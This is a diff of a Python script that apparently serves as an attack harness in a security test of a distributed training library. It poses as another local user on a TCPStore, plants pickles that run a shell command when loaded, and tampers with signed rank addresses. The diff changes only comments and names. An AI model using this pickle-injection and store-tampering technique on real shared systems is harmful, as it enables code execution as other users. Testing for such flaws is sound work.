@@ -1,8 +1,8 @@
-"""Another user of the node, who takes the place of rank 1 or changes addresses in the store.
+"""Act as another user who takes the place of rank 1 or changes addresses in the store.
 
-Usage: `attack_ranks.py store|group|addresses FILE`, the port on stdin.
+Usage: `attack_ranks.py store|group|addresses FILE`, with the port on stdin.
 
-What it sends are pickles that touch FILE when they are read. It stays until its stdin ends.
+It sends pickles that touch FILE when they are read, and stays until its stdin ends.
 """
 
 from __future__ import annotations
@@ -25,17 +25,17 @@ class Evil:
         return os.system, (f"id > {sys.argv[2]}",)
 
 
-def attack(how: str, port: int) -> None:
+def attack(mode: str, port: int) -> None:
     store = dist.TCPStore(
         "127.0.0.1", port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=60)
     )
-    if how == "store":
+    if mode == "store":
         for key in ("seats/1", "answers/1"):
             store.set(f"hpctrain/0/devices/{key}", pickle.dumps(Evil(), protocol=0).decode("ascii"))
         print("sent", flush=True)
-        # The connection stays, by which the user can be seen.
+        # The connection stays open, which exposes the user.
         threading.Event().wait()
-    if how == "addresses":
+    if mode == "addresses":
         keys = [f"hpctrain/0/0//cpu//0/{rank}" for rank in (0, 1)]
         for key in keys:
             store.set(key, "an address of the stranger")
@@ -43,7 +43,7 @@ def attack(how: str, port: int) -> None:
         with suppress(dist.DistError):
             while True:
                 for key in keys:
-                    # The address may be a real one, with a code that was there before.
+                    # The address may be a real, signed one from before.
                     value = bytearray(store.get(key))
                     value[-1] ^= 1
                     store.set(key, bytes(value))
@@ -57,7 +57,7 @@ def attack(how: str, port: int) -> None:
 
 def main() -> None:
     if os.geteuid() == 0:
-        # Only now: the installation may lie where other users cannot read.
+        # Only now: other users may not be able to read the installation.
         nobody = pwd.getpwnam("nobody")
         os.setgroups([])
         os.setgid(nobody.pw_gid)
